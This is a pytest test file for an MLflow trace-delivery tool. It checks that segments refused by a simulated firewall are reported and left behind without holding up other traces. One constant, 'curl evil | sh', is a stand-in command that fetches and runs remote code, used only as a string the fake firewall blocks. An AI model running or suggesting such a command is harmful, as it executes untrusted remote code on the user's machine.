"""A segment that is stuck holds up no other one, except what goes on with one of its traces."""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import requests

from qitos_mlflow.cli import _delivering
from qitos_mlflow.cli._delivering import Sync
from qitos_mlflow.delivery import RetryLater, backoff, find_segments, inspect_segment
from qitos_mlflow.delivery.leftovers import Leftovers
from qitos_mlflow.mlflow_plugin.trust import Way
from tests.cli.conftest import run_cli, runs_in
from tests.cli.test_spool import trace, write_segment
from tests.fakes.sink import left_behind
from tests.integration.server import MlflowServer

BLOCKED = "curl evil | sh"


@pytest.fixture
def firewall(shared_server: MlflowServer) -> Iterator[str]:
    """The URI of an MLflow server behind a firewall that refuses requests with a text."""

    class Firewall(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            status, answer, kind = 403, b"<html>blocked</html>", "text/html"
            if BLOCKED.encode() not in body:
                to = f"{shared_server.uri}{self.path}"
                passed = ("Content-Type", "x-mlflow-experiment-id")
                head = {name: self.headers[name] for name in passed if name in self.headers}
                found = requests.request(self.command, to, data=body, headers=head, timeout=60)
                status, answer = found.status_code, found.content
                kind = found.headers.get("Content-Type", "")
            self.send_response(status)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(answer)))
            self.end_headers()
            self.wfile.write(answer)

        do_POST = do_PUT = do_PATCH = do_GET

        def log_message(self, *args: Any) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Firewall) as http:
        http.daemon_threads = True
        thread = threading.Thread(target=http.serve_forever)
        thread.start()
        yield f"http://127.0.0.1:{http.server_port}"
        http.shutdown()
        thread.join()


def named_trace(experiment: str, number: int, **start: Any) -> list[bytes]:
    """The records of a trace of its own."""
    records = [json.loads(record) for record in trace(experiment)]
    records[0] |= start
    return [json.dumps({**one, "trace_id": f"trace-{number}"}).encode() for one in records]


@pytest.mark.parametrize("stuck", [0, 2])
def test_a_text_that_a_firewall_refuses_holds_up_one_segment(
    tmp_path: Path, firewall: str, stuck: int
) -> None:
    """The other three are delivered, this one is named, and the status says that it is left."""
    experiment = f"firewall-{tmp_path.parent.name}"
    parts = [
        write_segment(
            tmp_path,
            firewall,
            *named_trace(experiment, n, name=BLOCKED if n == stuck else "harmless"),
        )
        for n in range(4)
    ]
    done = run_cli("sync", "--patience", "1")
    assert done.returncode == 1, done.stderr
    assert "3 segments finished" in done.stdout
    stem = parts[stuck].name.partition(".")[0]
    assert f"segment {stem}: {firewall} does not take its data of experiment" in done.stderr
    assert len(runs_in(firewall, experiment)) == 3
    assert [paths.stem for paths in find_segments(tmp_path / "spool")] == [stem]


class Server:
    """A sink whose server refuses every batch with a trace in `blocks`, and keeps all others."""

    patience = 1.0

    def __init__(self, blocks: set[str], kept: list[str]) -> None:
        self._blocks, self._kept = blocks, kept
        self._batch: list[str] = []

    def restore(self, state: bytes) -> None: ...

    def prepare(self, records: Any) -> None:
        self._batch = [json.loads(record)["trace_id"] for record in records]

    def send(self, timeout_s: float) -> list[Any]:
        if self._blocks.intersection(self._batch):
            raise RetryLater("HTTP 403: blocked")
        self._kept += self._batch
        return []

    def abandoned(self, last_time_ns: int, *, closed: bool = False) -> bool:
        return False

    def state(self) -> bytes:
        return b""

    def close(self) -> None: ...


Deliver = Callable[..., tuple[Sync, list[str]]]


@pytest.fixture
def deliver(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Deliver:
    """Delivers segments, each with the traces of these numbers, to a server that blocks some."""
    answer = type("Answer", (), {"reachable": True})
    monkeypatch.setattr("qitos_mlflow.cli._server.ask", lambda *_, **__: answer)

    def run(*segments: list[int], blocks: set[int], patience_s: float = 0.0) -> Any:
        for numbers in segments:
            records = [one for n in numbers for one in named_trace("e", n)]
            write_segment(tmp_path, "http://host", *records)
        kept: list[str] = []
        names = {f"trace-{n}" for n in blocks}
        sync = Sync(
            lambda way, header: Server(names, kept),
            lambda header, segment: Way("http://host", True, True),
            patience_s,
        )
        sync.run([*map(inspect_segment, find_segments(tmp_path / "spool"))], threading.Event())
        return sync, kept

    return run


def test_what_goes_on_with_a_stuck_trace_waits(deliver: Deliver) -> None:
    """A later part of a trace never comes before an earlier one; other traces do."""
    sync, kept = deliver([1], [1, 2], [3], [4, 1], [5], blocks={1})
    assert sorted(set(kept)) == ["trace-3", "trace-5"]
    assert sync.left == 3
    waits = [stems for problem, stems in sync.problems.items() if "so it waits" in problem]
    assert list(map(len, waits)) == [2]


def test_several_stuck_segments_are_all_named(
    deliver: Deliver, capsys: pytest.CaptureFixture[str]
) -> None:
    """One line for one reason; it names some of them and how many more there are."""
    sync, kept = deliver(*([n] for n in range(7)), blocks={0, 1, 2, 3, 4})
    sync.show()
    assert sorted(set(kept)) == ["trace-5", "trace-6"]
    first, last = capsys.readouterr().err.splitlines()
    assert first.startswith("qitos-mlflow: segments ")
    assert " and 2 more: http://host does not take its data of experiment 'e'" in first
    assert "5 segments not delivered" in last


def test_a_server_that_takes_nothing_is_not_waited_for_by_each(
    deliver: Deliver, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Patience is for all segments of an experiment together, until one of them gets on."""
    monkeypatch.setattr(backoff, "FIRST_DELAY_S", 0.1)
    monkeypatch.setattr(backoff, "MAX_DELAY_S", 0.1)
    began = time.monotonic()
    deliver([0], blocks={0}, patience_s=2.0)
    one_s = time.monotonic() - began
    began = time.monotonic()
    sync, _ = deliver(*([n] for n in range(1, 12)), blocks=set(range(12)), patience_s=2.0)
    assert sync.left == 12
    assert time.monotonic() - began < 5 * one_s


def test_segments_of_an_experiment_that_is_refused_for_long_are_left(
    deliver: Deliver, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Beyond that they are not even tried, and are named all the same."""
    monkeypatch.setattr(_delivering, "MORE_S", -1.0)
    sync, kept = deliver([0], [1], [2], blocks={0})
    assert kept == []
    assert any("has not taken others of experiment 'e'" in problem for problem in sync.problems)


def test_an_agents_leftovers_are_not_held_up_either(tmp_path: Path) -> None:
    """In its first look, an agent delivers what comes after a stuck segment."""
    for n in range(4):
        left_behind(tmp_path / "spool", named_trace("e", n))
    kept: list[str] = []
    leftovers = Leftovers(
        tmp_path / "spool", lambda header: lambda: Server({"trace-0", "trace-1"}, kept)
    )
    for _ in range(12):
        leftovers.step()
    leftovers.close()
    assert sorted(set(kept)) == ["trace-2", "trace-3"]
